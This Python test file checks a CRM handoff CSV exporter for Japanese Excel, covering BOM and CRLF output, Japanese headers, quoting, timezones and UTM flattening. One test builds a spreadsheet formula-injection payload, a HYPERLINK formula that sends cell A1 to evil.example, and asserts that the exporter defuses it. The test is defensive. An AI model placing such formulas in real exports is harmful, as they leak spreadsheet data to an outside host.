"""The handoff CSV (domain/crm_export.py): Excel in Japan opens it as written."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest

from autoreply.domain.crm_export import (
    COLUMNS,
    QUALIFICATION_COLUMNS,
    csv_lines,
    flat_source,
    guard,
    header,
)

TOKYO = ZoneInfo("Asia/Tokyo")


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_bom_crlf_and_japanese_headers() -> None:
    text = csv_lines([{"handoff_id": 1, "name": "山田 太郎"}], TOKYO, first=True)
    assert text.startswith("\ufeff引き継ぎID,")
    data = text.encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == 2 and data.count(b"\n") == 2  # no bare LF
    rows = parse(text)
    assert rows[0] == header() and len(rows[0]) == len(COLUMNS)
    for title in ("課題", "意思決定者", "検討時期", "予算感", "懸念点", "次アクション"):
        assert title in rows[0]
    assert [t for _, t in QUALIFICATION_COLUMNS][:6] == [
        "課題",
        "意思決定者",
        "検討時期",
        "予算感",
        "懸念点",
        "次アクション",
    ]
    assert rows[1][0] == "1" and rows[1][header().index("氏名")] == "山田 太郎"
    assert len(set(rows[0])) == len(rows[0])  # every header once


def test_a_field_with_comma_newline_and_quote_survives() -> None:
    tricky = '株式会社テスト, 営業部\n「至急」と "本人" 談'
    text = csv_lines([{"challenge": tricky}], TOKYO, first=False)
    at = header().index("課題(会話より)")
    assert parse(text)[0][at] == tricky
    assert '"株式会社テスト, 営業部\n「至急」と ""本人"" 談"' in text
    assert text.endswith("\r\n")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_would_be_a_formula_is_text(start: str) -> None:
    evil = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
    text = csv_lines([{"name": evil, "company": evil}], TOKYO, first=False)
    row = parse(text)[0]
    assert row[header().index("氏名")] == "'" + evil
    assert row[header().index("会社名")] == "'" + evil
    assert guard("ok=1") == "ok=1"


def test_values_as_excel_reads_them() -> None:
    at = datetime(2026, 11, 21, 14, 10, tzinfo=UTC)
    row = {
        "created_at": at,
        "score": -3,  # our own number: not guarded
        "bot_first_response_seconds": 1.5,
        "opted_out": True,
        "topics": ["夜間対応", "=料金"],
        "qualification.qualified": False,
        "team": None,
    }
    cells = parse(csv_lines([row], TOKYO, first=False))[0]
    got = dict(zip(header(), cells, strict=True))
    assert got["引き継ぎ日時"] == "2026-11-21 23:10"  # business timezone
    assert got["スコア"] == "-3"
    assert got["自動応答の初回応答(秒)"] == "1.5"
    assert got["配信停止"] == "1" and got["商談化"] == "0" and got["チーム"] == ""
    assert got["関心トピック"] == "夜間対応 / =料金"


def test_flat_source_reads_nested_and_flat_utm() -> None:
    assert flat_source(
        {
            "url": "https://example.com/pricing",
            "utm": {"source": "google", "campaign": "winter", "medium": ""},
            "form_id": "contact",
            "pages": [{"url": "x"}],
            "seen": True,
        }
    ) == {
        "page": "https://example.com/pricing",
        "utm_source": "google",
        "utm_campaign": "winter",
        "form_id": "contact",
    }
    assert flat_source(None) == {}
